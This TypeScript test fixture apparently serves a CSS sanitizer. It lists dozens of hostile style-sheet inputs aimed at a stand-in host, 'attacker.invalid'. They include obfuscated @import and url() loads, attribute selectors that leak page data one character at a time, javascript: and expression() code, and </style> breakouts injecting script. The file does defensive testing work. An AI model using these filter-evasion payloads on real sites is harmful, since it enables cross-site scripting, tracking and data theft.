/** Whatever an attack asks for is at this host; nothing answers. */
export const ATTACKER = 'https://attacker.invalid';

const at = (path: string) => `${ATTACKER}/${path}`;

/**
 * Style sheets that load what no published page may load, run code, or leave the place they are shown in. Images over
 * https are allowed (decision 005), so none of these is one.
 */
export const SHEET_ATTACKS: readonly string[] = [
  // Other sheets.
  `@import "${at('import')}";`,
  `@import url(${at('import-url')}) screen;`,
  `@import url("${at('import-layer')}") layer(a) supports(display: grid);`,
  `@\\69mport "${at('import-escaped')}";`,
  `@IMPORT/**/"${at('import-comment')}";`,
  `@charset "utf-8"; @import '${at('import-charset')}';`,
  `<!-- @import "${at('import-cdo')}"; -->`,
  `} @import "${at('import-brace')}";`,
  `@layer a; @import "${at('import-after-layer')}";`,
  '@import "data:text/css,p{background:url(//attacker.invalid/import-data)}";',
  // Fonts.
  `@font-face { font-family: f; src: url(${at('font')}) } p { font-family: f }`,
  `@font-face { font-family: f; src: local("x"), url("${at('font-local')}") format("woff2") } p { font-family: f }`,
  `@font-face { font-family: f; src: \\75rl(${at('font-escaped')}) } p { font-family: f }`,
  `@font-face { font-family: f; s\\72c: url(${at('font-src-escaped')}) } p { font-family: f }`,
  `@font-face { font-family: f; src: url(data:font/woff2;base64,AAAA), url(${at('font-second')}) } p { font-family: f }`,
  `@font-face { font-family: f; unicode-range: U+61; src: url(${at('font-a')}) } p { font-family: f }`,
  `@media all { @font-face { font-family: f; src: url(${at('font-media')}) } } p { font-family: f }`,
  // Images over other schemes, and ways to write an address.
  'p { background: url(http://attacker.invalid/http) }',
  'p { background: url(//attacker.invalid/relative) }',
  'p { background: url("//attacker.invalid/quoted") }',
  'p { background: u\\72l(//attacker.invalid/escaped) }',
  'p { background: URL(\\2f\\2f attacker.invalid/slashes) }',
  'p { background: url(http:/\\2f attacker.invalid/half) }',
  'p { background: url( "http://attacker.invalid/space" ) }',
  'p { background: url(/**/"http://attacker.invalid/comment") }',
  'p { background: image-set("http://attacker.invalid/set" 1x) }',
  'p { background: -webkit-image-set(url(http://attacker.invalid/webkit-set) 1x) }',
  'p { background: image-set("//attacker.invalid/type" type("image/png")) }',
  'p { background: cross-fade(url(http://attacker.invalid/fade), url(http://attacker.invalid/fade2), 50%) }',
  'p { background: image("http://attacker.invalid/image") }',
  'p { background: src("http://attacker.invalid/src") }',
  'p { --u: url(http://attacker.invalid/variable); background: var(--u) }',
  'p { --u: "http://attacker.invalid/string"; background: image-set(var(--u) 1x) }',
  'p { background: var(--none, url(http://attacker.invalid/fallback)) }',
  '@property --u { syntax: "<image>"; inherits: true; initial-value: url(http://attacker.invalid/property) } p { background: var(--u) }',
  '@property --u { syntax: "<url>"; inherits: true; initial-value: url(http://attacker.invalid/property-url) } p { background: var(--u) }',
  'p::before { content: url(http://attacker.invalid/content) }',
  'p { cursor: url(http://attacker.invalid/cursor), auto }',
  'p { list-style: url(http://attacker.invalid/list); display: list-item }',
  'p { border-image: url(http://attacker.invalid/border) 1 }',
  'p { mask: url(http://attacker.invalid/mask) } p { -webkit-mask-image: url(http://attacker.invalid/webkit-mask) }',
  'p { filter: url(http://attacker.invalid/filter#a); clip-path: url(http://attacker.invalid/clip#a) }',
  'p { shape-outside: url(http://attacker.invalid/shape); float: left }',
  'p { offset-path: url(http://attacker.invalid/offset#a) }',
  '@keyframes k { from, to { background: url(http://attacker.invalid/frame) } } p { animation: k 1s infinite }',
  '@counter-style c { system: cyclic; symbols: url(http://attacker.invalid/symbol) } p { display: list-item; list-style: c }',
  'p { background: url(ftp://attacker.invalid/ftp) url(blob:http://attacker.invalid/blob) }',
  "p { background: url(\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://attacker.invalid/svg'/></svg>\") }",
  // What reads attributes and texts, one character after the other.
  ...['a', 'b'].map(
    (char) => `a[href^="${char}"] { background: url(http://attacker.invalid/reads-${char}) }`,
  ),
  'p[class*="x" i], p:has([title~="y"]), :not([id]) { background: url(//attacker.invalid/reads) }',
  '@container style(--x: 1) { p { background: url(http://attacker.invalid/container) } }',
  '@supports (display: grid) { p { background: url(http://attacker.invalid/supports) } }',
  '@scope (p) to (b) { :scope { background: url(http://attacker.invalid/scope) } }',
  '@starting-style { p { background: url(http://attacker.invalid/starting) } }',
  '@document url(http://attacker.invalid/document) { p { color: red } }',
  '@namespace x url(http://attacker.invalid/namespace); x|p { color: red }',
  '@view-transition { navigation: auto } ::view-transition { background: url(http://attacker.invalid/transition) }',
  '@page { background: url(http://attacker.invalid/page); @top-left { content: url(http://attacker.invalid/margin) } }',
  'p { & b, &:hover { background: url(http://attacker.invalid/nested) } background: url(http://attacker.invalid/after) }',
  'p { color: red; background: url(http://attacker.invalid/open',
  'p { background: url("http://attacker.invalid/open-string',
  '/* p { } */ p { background: url(/*http:*///attacker.invalid/commented) }',
  // Code.
  'p { width: expression(alert(1)); behavior: url(#x); -moz-binding: url(http://attacker.invalid/xbl#a) }',
  'p { width: exp/**/ression(alert(1)); b\\65havior: url(http://attacker.invalid/htc) }',
  'p { background: url(javascript:alert(1)) } @import "javascript:alert(1)";',
  'p { background: url("java\\73 cript:alert(1)") }',
  // The end of the element that holds the sheet.
  'p { content: "</style><img src=x onerror=alert(1)>" }',
  'p { content: "<\\/style><img src=x onerror=alert(1)>" } /* </style><script>alert(1)</script> */',
  'p { --x: </STYLE\t><img src=x onerror=alert(1)>; }',
  '\\3c/style\\3e <img src=x onerror=alert(1)>{}',
  '[title="</style><img src=x onerror=alert(1)>"] { color: red }',
  '@media x</style><img src=x onerror=alert(1)> { p { color: red } }',
  'p { content: "<\\!--" } --><script>alert(1)</script>',
  'td::before { content: attr(data-x) } /* Page */ \n/* Page */\n p { color: red }',
  // What leaves its place.
  ':host { position: fixed !important; inset: 0 !important; z-index: 9 !important }',
  ':host(*), :host-context(body), ::slotted(*), ::part(x) { position: fixed !important }',
  ':HOST { position: fixed !important } \\:host { color: red } :\\68ost { position: fixed !important }',
  ':is(:host, p) { position: fixed !important } p { :host & { position: fixed !important } }',
  '@layer x { @media all { :host { position: fixed !important } } }',
];
